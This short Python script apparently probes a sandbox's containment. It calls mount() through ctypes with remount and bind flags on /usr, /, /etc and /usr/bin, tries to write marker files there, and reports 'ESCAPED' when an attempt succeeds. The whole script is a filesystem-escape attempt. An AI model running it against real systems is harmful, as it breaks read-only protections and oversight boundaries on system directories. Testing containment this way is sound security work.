import ctypes, json, os, resource, signal, socket, subprocess, sys, threading, time
V = json.load(open("victim.json"))
def esc(*a): print("ESCAPED", *a, flush=True)
def t(f):
    try: return f()
    except BaseException as e: print("  no:", repr(e)[:100], flush=True)
L = ctypes.CDLL(None, use_errno=True)

for f in ("/usr", "/", "/etc", "/usr/bin"):
    L.mount(None, f.encode(), None, 32 | 4096, None); L.mount(f.encode(), f.encode(), None, 4096, None)
    t(lambda: (open(f"{f}/{V['marker']}", "w").close(), esc("wrote", f)))
t(lambda: subprocess.run(["mount", "-o", "remount,rw,bind", "/usr"]).returncode == 0 and esc("remounted"))
